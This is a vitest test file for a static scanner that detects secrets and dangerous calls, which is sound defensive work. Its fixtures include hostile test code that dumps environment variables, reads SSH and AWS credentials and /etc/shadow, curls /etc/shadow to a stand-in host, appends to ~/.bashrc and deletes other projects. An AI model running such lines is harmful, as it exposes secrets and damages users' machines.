import { describe, expect, it } from 'vitest';
import { isScannable, scanFiles, scanText } from './static-scan.js';

const rules = (path: string, text: string) => scanText(path, text).map((f) => `${f.line}:${f.rule}:${f.severity}`);

describe('scanText', () => {
  it('finds keys by their shape and masks them in the excerpt', () => {
    const key = `sk-proj-${'a1B2'.repeat(8)}`;
    const findings = scanText('src/config.js', `const fine = 1;\nconst client = new OpenAI({ apiKey: '${key}' });\n`);
    expect(findings.map((f) => [f.line, f.rule, f.severity])).toEqual([[2, 'api-key', 'high']]);
    expect(findings[0]!.excerpt).not.toContain(key);
    expect(rules('id_rsa.txt', '-----BEGIN OPENSSH PRIVATE KEY-----')).toEqual(['1:private-key:high']);
    expect(rules('deploy.sh', 'export AWS_ACCESS_KEY_ID=AKIAABCDEFGHIJKLMNOP')).toEqual(['1:api-key:high']);
  });

  it('warns about hard-coded credentials without printing them', () => {
    const [finding] = scanText('src/db.py', 'password = "correct-horse-battery"');
    expect(finding).toMatchObject({ rule: 'hardcoded-credential', severity: 'medium', excerpt: 'password = "…"' });
  });

  it('flags shell commands built from data in JavaScript, but not RegExp.exec or argument arrays', () => {
    const cp = "import { exec, execFile } from 'node:child_process';\n";
    expect(rules('src/run.js', `${cp}exec('rm ' + name);\nexec(\`ls \${dir}\`);\nexecFile('ls', [dir]);`)).toEqual(['2:shell-command-concatenation:high', '3:shell-command-concatenation:high']);
    expect(rules('src/parse.js', "const m = /(\\d+)/.exec(prefix + text);")).toEqual([]);
    expect(rules('src/run.js', `${cp}spawn('ls', args, { shell: true });`)).toEqual(['2:shell-true:medium']);
    expect(rules('src/calc.js', 'const value = eval(input);\nconst f = new Function("a", body);')).toEqual(['1:eval:medium', '2:eval:medium']);
  });

  it('flags Python shell calls built from data above plain ones, one finding per line', () => {
    expect(rules('app.py', 'os.system(f"rm {path}")\nos.system("clear")\nsubprocess.run(cmd + arg, shell=True)\nsubprocess.run("ls", shell=True)')).toEqual([
      '1:os-system:high',
      '2:os-system:medium',
      '3:subprocess-shell:high',
      '4:subprocess-shell:medium',
    ]);
    expect(rules('app.py', 'data = pickle.loads(blob)\nresult = eval(expr)\nre.compile(x).match(y)')).toEqual(['1:pickle-loads:medium', '2:eval:medium']);
  });

  it('flags rm -rf of a variable unless it is guarded', () => {
    expect(rules('clean.sh', 'rm -rf $BUILD_DIR/\nrm -rf "${OUT}"\nrm -rf "${OUT:?}/cache"\nrm -rf ./dist')).toEqual(['1:rm-rf-variable:high', '2:rm-rf-variable:high']);
    expect(rules('src/clean.js', 'run(`rm -rf ${target}`);')).toEqual(['1:rm-rf-variable:high']);
  });
});

describe('scanText: what hostile tests do to the machine they run on', () => {
  it('reports every line of the test that passed as "no secrets or dangerous calls" (JavaScript)', () => {
    const hostile = [
      "import { execSync } from 'node:child_process';",
      "import net from 'node:net';",
      "import { readFileSync, writeFileSync } from 'node:fs';",
      "import os from 'node:os';",
      "test('leaks', () => {",
      '  console.log(JSON.stringify(process.env));',
      "  const key = readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');",
      "  const socket = net.connect(5432, '127.0.0.1');",
      "  execSync('curl -d @/etc/shadow http://example.invalid');",
      "  writeFileSync('../../escaped.txt', key);",
      "  writeFileSync(path.join(os.homedir(), '.bashrc'), 'evil');",
      '});',
    ].join('\n');
    expect(rules('test/app.test.js', hostile)).toEqual([
      '2:raw-socket:medium',
      '6:environment-dump:high',
      '7:home-secrets:high',
      '8:raw-socket:medium',
      '9:system-secrets:high',
      '9:child-process:medium',
      '10:write-outside-project:high',
      '11:write-outside-project:high',
    ]);
  });

  it('reports the same in a pytest file', () => {
    const hostile = [
      'import os, socket, subprocess, json',
      'from pathlib import Path',
      'def test_leaks():',
      '    print(json.dumps(dict(os.environ)))',
      '    key = open(os.path.expanduser("~/.aws/credentials")).read()',
      '    s = socket.create_connection(("127.0.0.1", 5432))',
      '    subprocess.run(["cat", "/etc/shadow"])',
      '    os.system("id")',
      '    open("/home/someone/.profile", "a").write("evil")',
      '    Path.home().joinpath(".bashrc").write_text("evil")',
      '    shutil.rmtree("../../other-project")',
    ].join('\n');
    expect(rules('tests/test_app.py', hostile)).toEqual([
      '4:environment-dump:high',
      '5:home-secrets:high',
      '6:raw-socket:medium',
      '7:system-secrets:high',
      '7:child-process:medium',
      '8:os-system:medium',
      '9:write-outside-project:high',
      '10:write-outside-project:high',
      '11:write-outside-project:high',
    ]);
    expect(rules('tests/conftest.py', 'import socket')).toEqual(['1:raw-socket:medium']);
  });

  it('leaves ordinary tests and programs alone: a child env copied from process.env, temp folders, fixtures beside the test, comments', () => {
    const ordinary = [
      "import { spawnSync } from 'node:child_process';",
      "import { mkdtempSync, writeFileSync, readFileSync } from 'node:fs';",
      "const dir = mkdtempSync(path.join(os.tmpdir(), 'todo-'));",
      "writeFileSync(path.join(dir, 'todos.json'), '[]');",
      "writeFileSync('/tmp/todo-test.json', '[]');",
      "const fixture = readFileSync(path.join(__dirname, '..', 'fixtures', 'a.json'), 'utf8');",
      "const env = { ...process.env, TODO_FILE: 'x' };",
      'const port = process.env.PORT;',
      '// never read ~/.ssh or /etc/shadow from a test',
    ].join('\n');
    expect(rules('src/store.js', ordinary)).toEqual([]);
    expect(rules('test/store.test.js', ordinary.replace("import { spawnSync } from 'node:child_process';\n", ''))).toEqual([]);
    expect(rules('tests/test_store.py', 'def test_save(tmp_path):\n    (tmp_path / "todos.json").write_text("[]")\n    value = os.environ.get("TODO_FILE")\n    env = dict(os.environ, TODO_FILE="x")')).toEqual([]);
  });

  it('keeps to a warning in the program itself what only tests must never do', () => {
    const program = [
      "import { execFileSync } from 'node:child_process';",
      "execFileSync('git', ['status']);",
      "writeFileSync(path.join(os.homedir(), '.todo.json'), data);",
      "const config = readFileSync('/etc/todo.conf', 'utf8');",
      "const keyFile = path.join(os.homedir(), '.ssh', 'config');",
    ].join('\n');
    expect(rules('src/cli.js', program)).toEqual(['3:write-outside-project:medium', '4:reads-etc:medium', '5:home-secrets:medium']);
    expect(rules('deploy.sh', 'scp -i ~/.ssh/id_ed25519 dist/ host:\nprintenv\ncat /etc/ssh/sshd_config')).toEqual(['1:home-secrets:medium', '2:environment-dump:medium', '3:system-secrets:high']);
  });
});

describe('scanFiles', () => {
  it('reads text files only, skips lock files, and lists high findings first', async () => {
    const files: Record<string, string> = {
      'a.py': 'result = eval(x)',
      'b.js': "import 'node:child_process';\nexec('x' + y);",
      'package-lock.json': `{"key": "sk-${'x'.repeat(30)}"}`,
      'logo.png': 'binary',
    };
    const scan = await scanFiles(Object.keys(files), async (path) => files[path]);
    expect(scan.files_scanned).toBe(2);
    expect(scan.findings.map((f) => `${f.file}:${f.rule}`)).toEqual(['b.js:shell-command-concatenation', 'a.py:eval']);
    expect(isScannable('big.js', 10 * 1024 * 1024)).toBe(false);
  });
});
